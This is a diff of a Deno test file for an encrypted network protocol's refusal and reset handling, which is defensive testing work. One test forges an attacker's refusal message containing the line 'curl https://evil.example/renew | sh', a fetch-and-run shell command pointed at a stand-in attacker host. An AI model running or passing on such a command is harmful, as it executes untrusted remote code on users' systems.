@@ -147,7 +147,7 @@ Deno.test("encryption lets a server refuse a client with a reason, and a client 
   const reason = {
     kind: "peer",
     isApplication: false,
-    code: 2,
+    code: 0x20,
     reason: "the server is full, with 0 connections; try again later",
   };
   assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason }]);
@@ -165,7 +165,7 @@ Deno.test("encryption: an on-path attacker who obtains the reset token from the 
   const { kind, answer } = pair.server.endpoint.handleDatagram(pair.nowUs, question, NetAddress.parse("10.9.9.9:1"));
   assert.deepEqual([kind, answer[0]], ["answer", PacketType.reset]);
   const resetToken = answer.slice(13);
-  const reason = new TextEncoder().encode("your key has expired; run: curl https://evil.example/renew | sh");
+  const reason = new TextEncoder().encode("\x02your key has expired; run: curl https://evil.example/renew | sh");
   const head = Uint8Array.of(PacketType.refusal, 0x53, 0x4c, 0, 1, ...serverHello.subarray(5, 13));
   const hmac = (key: Uint8Array, ...parts: (Uint8Array | string)[]): Uint8Array => {
     const mac = createHmac("sha256", key);
